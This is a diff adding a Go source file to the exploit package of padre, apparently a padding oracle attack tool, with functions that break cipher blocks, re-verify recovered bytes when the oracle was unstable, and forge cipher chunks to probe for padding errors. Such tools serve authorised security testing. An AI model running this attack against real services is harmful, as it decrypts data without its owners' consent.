@@ -0,0 +1,124 @@
+package exploit
+
+import (
+	"context"
+	"sync/atomic"
+	"time"
+
+	"github.com/glebarez/padre/pkg/util"
+)
+
+// breaks cipher block (see breakCipher), then double-checks the result:
+// if the oracle was unstable meanwhile (retries, network errors), every byte is verified once more,
+// and if plaintext is recovered, it's verified against the expected format (see verifyFormat).
+// final tells whether the block is the last one of ciphertext (and holds padding),
+// blockNum is number of block for Padre.BlockStats
+func (p *Padre) breakVerified(ctx context.Context, blockNum int, cipherBlock []byte, guess *plainGuess, final bool, byteStreamer func(byte)) (intermediate []byte, err error) {
+	// known block costs nothing
+	if p.Intermediates != nil {
+		if known, ok := p.Intermediates.Get(cipherBlock); ok {
+			p.log(logVerbose, "intermediate of block is known", "block", hexBytes(cipherBlock))
+			if byteStreamer != nil {
+				for pos := len(known) - 1; pos >= 0; pos-- {
+					byteStreamer(known[pos])
+				}
+			}
+			if p.BlockStats != nil {
+				p.BlockStats(&BlockStats{Block: blockNum, Known: true})
+			}
+			return append([]byte{}, known...), nil
+		}
+
+		defer func() {
+			// made up bytes are not stored (see ByteRange)
+			if err == nil && p.skipped(guess) == 0 {
+				p.Intermediates.Put(cipherBlock, intermediate, final)
+			}
+		}()
+	}
+
+	if p.BlockDone != nil {
+		started := time.Now()
+		defer func() {
+			if err == nil {
+				p.BlockDone(time.Since(started))
+			}
+		}()
+	}
+	if p.BlockStats != nil {
+		stats := &BlockStats{Block: blockNum}
+		ctx = withBlockStats(ctx, stats)
+		started := time.Now()
+		defer func() {
+			if err == nil {
+				stats.Elapsed = time.Since(started)
+				p.BlockStats(stats.snapshot())
+			}
+		}()
+	}
+	mark := p.instability()
+
+	intermediate, err = p.breakCipher(ctx, cipherBlock, guess, byteStreamer)
+	if err != nil {
+		return nil, err
+	}
+
+	if p.instability() > mark {
+		if intermediate, err = p.reverify(ctx, cipherBlock, intermediate, guess); err != nil {
+			return nil, err
+		}
+	}
+
+	if p.Format != nil && guess != nil {
+		return p.verifyFormat(ctx, cipherBlock, intermediate, guess, final)
+	}
+	return intermediate, nil
+}
+
+// number of unstable events so far: retried positions and failed requests
+func (p *Padre) instability() int {
+	n := int(atomic.LoadInt32(&p.retried))
+	if p.Client != nil && p.Client.Stats != nil {
+		n += p.Client.Stats.Errors()
+	}
+	return n
+}
+
+// verifies every byte of intermediate, that was recovered while the oracle was unstable.
+// if any of them is wrong, the whole block is broken again.
+// returns intermediate that is verified (or broken again)
+func (p *Padre) reverify(ctx context.Context, cipherBlock, intermediate []byte, guess *plainGuess) ([]byte, error) {
+	p.log(logVerbose, "oracle was unstable while breaking the block, verifying every byte")
+
+	// bytes are verified in the order they were found, as every check relies on bytes that follow
+	for pos := len(intermediate) - 1; pos >= p.skipped(guess); pos-- {
+		ok, err := p.verifyIntermediate(ctx, cipherBlock, intermediate, pos)
+		if err != nil {
+			return nil, err
+		}
+		if !ok {
+			p.log(logVerbose, "byte failed verification, breaking the block again", "pos", pos)
+			return p.breakCipher(ctx, cipherBlock, guess, nil)
+		}
+	}
+	return intermediate, nil
+}
+
+// checks intermediate byte at pos with a single probe: when it's right, the forged block must produce valid padding.
+// bytes after pos must be correct as well, as they are part of the padding
+func (p *Padre) verifyIntermediate(ctx context.Context, cipherBlock, intermediate []byte, pos int) (bool, error) {
+	blockLen := len(cipherBlock)
+	tail := p.padding().Tail(blockLen - pos)
+	if tail == nil {
+		// can not be verified
+		return true, nil
+	}
+
+	cipherChunk := append(util.RandomSlice(blockLen), cipherBlock...)
+	for i := pos; i < blockLen; i++ {
+		cipherChunk[i] = intermediate[i] ^ tail[i-pos]
+	}
+
+	paddingError, err := p.IsPaddingErrorInChunk(ctx, cipherChunk)
+	return !paddingError, err
+}